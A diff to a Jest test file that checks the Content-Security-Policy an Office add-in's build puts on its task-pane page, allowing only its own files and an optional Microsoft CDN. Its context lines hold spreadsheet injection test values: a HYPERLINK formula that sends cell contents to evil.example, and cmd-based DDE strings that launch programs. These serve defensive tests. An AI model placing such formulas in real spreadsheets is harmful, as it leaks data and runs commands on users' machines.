@@ -22,6 +22,16 @@ import { capture } from "../helpers/cli-io";
 
 const repo = join(__dirname, "..", "..");
 
+type ConfigFactory = (
+  env: Record<string, unknown>,
+  argv: Record<string, unknown>,
+) => Promise<{ plugins: object[] }>;
+// The config rebuilds the command (build/cli) before reading it: here it reads the build there is
+// (npm test builds first, bin/kl226.js when stale), not rebuilt while other test files run it.
+jest.mock("../../scripts/build-cli", () => ({ buildCliChecked: async () => [] }));
+// eslint-disable-next-line @typescript-eslint/no-require-imports
+const makeConfig = require(join(repo, "webpack.config.js")) as ConfigFactory;
+
 const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Sở A")';
 const OWN_TASK = "+cmd|' /C calc'!A0";
 const OWN_LEAD = "-2+3+cmd|' /C notepad'!A0";
@@ -126,11 +136,51 @@ describe("no code from data, least permission, a content security policy", () =>
     "object-src 'none'",
   ];
 
-  test("the taskpane page is built with a Content-Security-Policy meta (no eval, no foreign hosts)", () => {
-    const config = readFileSync(join(repo, "webpack.config.js"), "utf8");
-    expect(config).toMatch(/"http-equiv": "Content-Security-Policy"/);
-    for (const d of CSP_DIRECTIVES) expect(config).toContain(`"${d}"`);
-    expect(config).not.toContain("unsafe-eval");
+  /** The origin of Microsoft's office.js, the one foreign source the page may name (OFFICE_JS=cdn). */
+  const OFFICE_JS_ORIGIN = "https://appsforoffice.microsoft.com";
+
+  /** What a directive may list: the page's own files, nothing, and only where needed data: URLs, inline styles, the CDN office.js. */
+  const allowedSources = (directive: string, officeJs: string): string[] => [
+    "'self'",
+    "'none'",
+    ...(directive === "img-src" || directive === "font-src" ? ["data:"] : []),
+    ...(directive === "style-src" ? ["'unsafe-inline'"] : []),
+    ...(directive === "script-src" && officeJs === "cdn" ? [OFFICE_JS_ORIGIN] : []),
+  ];
+
+  /** The policy webpack.config.js puts in taskpane.html's meta, as [directive, sources] pairs. */
+  async function builtPolicy(officeJs: string): Promise<Array<[string, string[]]>> {
+    const config = await makeConfig({ officeJs }, { mode: "production" });
+    const html = config.plugins.find((p) => p.constructor.name === "HtmlWebpackPlugin") as
+      { userOptions: { meta: Record<string, { "http-equiv": string; content: string }> } } | undefined;
+    const meta = html?.userOptions.meta["Content-Security-Policy"];
+    expect(meta?.["http-equiv"]).toBe("Content-Security-Policy");
+    return (meta?.content ?? "")
+      .split(";")
+      .map((d) => d.trim().split(/\s+/))
+      .filter((words) => words[0] !== "")
+      .map(([name, ...sources]) => [name!, sources]);
+  }
+
+  test("the taskpane page is built with a Content-Security-Policy meta (no eval, no foreign hosts)", async () => {
+    // office.js the add-in's own copy (the default), or Microsoft's (OFFICE_JS=cdn).
+    for (const officeJs of ["", "cdn"]) {
+      const policy = await builtPolicy(officeJs);
+      const listed = new Map(policy);
+      expect(listed.size).toBe(policy.length);
+      for (const d of CSP_DIRECTIVES) {
+        const [name, ...sources] = d.split(" ");
+        const cdn = name === "script-src" && officeJs === "cdn";
+        expect(listed.get(name!)).toEqual(cdn ? [...sources, OFFICE_JS_ORIGIN] : sources);
+      }
+      // Every source of every directive is one of those allowed: no other host, no eval, no wildcard.
+      const foreign = policy.flatMap(([directive, sources]) =>
+        sources
+          .filter((s) => !allowedSources(directive, officeJs).includes(s))
+          .map((s) => `${directive} ${s}`),
+      );
+      expect([officeJs, foreign]).toEqual([officeJs, []]);
+    }
   });
 
   test("the built taskpane.html carries the policy", () => {
